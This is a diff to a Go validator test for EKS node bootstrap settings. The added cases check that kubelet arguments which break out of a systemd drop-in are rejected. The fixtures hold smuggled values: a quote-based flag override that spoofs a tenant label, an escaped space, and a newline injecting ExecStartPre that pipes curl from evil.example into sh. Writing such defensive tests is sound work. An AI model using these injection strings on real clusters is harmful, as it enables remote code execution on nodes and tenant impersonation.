@@ -83,9 +83,27 @@ func TestTenantErrors(t *testing.T) {
 			s.Spec.EKSAutoscalingGroup = &nodesetv1alpha1.EKSAutoscalingGroup{Bootstrap: &nodesetv1alpha1.EKSBootstrap{
 				KubeletExtraArgs: []string{"--v=2 --node-labels=nodeset.dev/tenant=victim"}}}
 		}), []string{"kubeletExtraArgs[0]", "--node-labels"}},
+		// The script bootstrap hands the arguments to the EKS bootstrap.sh,
+		// which writes them into a systemd drop-in as
+		// Environment='KUBELET_EXTRA_ARGS=<args>': a quote, a backslash
+		// escape or a new line there sets the variable again with flags of
+		// the tenant's choosing, or adds lines to the kubelet's unit.
+		{"a flag after a quote that ends the systemd value", set(func(s *nodesetv1alpha1.NodeSet) {
+			s.Spec.EKSAutoscalingGroup = &nodesetv1alpha1.EKSAutoscalingGroup{Bootstrap: &nodesetv1alpha1.EKSBootstrap{
+				KubeletExtraArgs: []string{"--v=2' 'KUBELET_EXTRA_ARGS=--node-labels=nodeset.dev/tenant=victim"}}}
+		}), []string{"kubeletExtraArgs[0]", "quotes"}},
+		{"a flag after a new line in the systemd drop-in", set(func(s *nodesetv1alpha1.NodeSet) {
+			s.Spec.EKSAutoscalingGroup = &nodesetv1alpha1.EKSAutoscalingGroup{Bootstrap: &nodesetv1alpha1.EKSBootstrap{
+				KubeletExtraArgs: []string{"--v=2\nExecStartPre=/bin/sh -c 'curl evil.example | sh'"}}}
+		}), []string{"kubeletExtraArgs[0]", "control characters"}},
+		{"a space spelt as a systemd escape", set(func(s *nodesetv1alpha1.NodeSet) {
+			s.Spec.EKSAutoscalingGroup = &nodesetv1alpha1.EKSAutoscalingGroup{Bootstrap: &nodesetv1alpha1.EKSBootstrap{
+				KubeletExtraArgs: []string{`--v=2\x20--node-labels=nodeset.dev/tenant=victim`}}}
+		}), []string{"kubeletExtraArgs[0]", "backslashes"}},
 		{"other kubelet flags pass", set(func(s *nodesetv1alpha1.NodeSet) {
 			s.Spec.EKSAutoscalingGroup = &nodesetv1alpha1.EKSAutoscalingGroup{Bootstrap: &nodesetv1alpha1.EKSBootstrap{
-				KubeletExtraArgs: []string{"--max-pods=20", "--node-labels-file-is-not-a-flag"}}}
+				KubeletExtraArgs: []string{"--max-pods=20", "--node-labels-file-is-not-a-flag",
+					"--eviction-hard=memory.available<500Mi,nodefs.available<10%", "--system-reserved=cpu=250m,memory=0.2Gi"}}}
 		}), nil},
 	}
 	for _, tt := range tests {
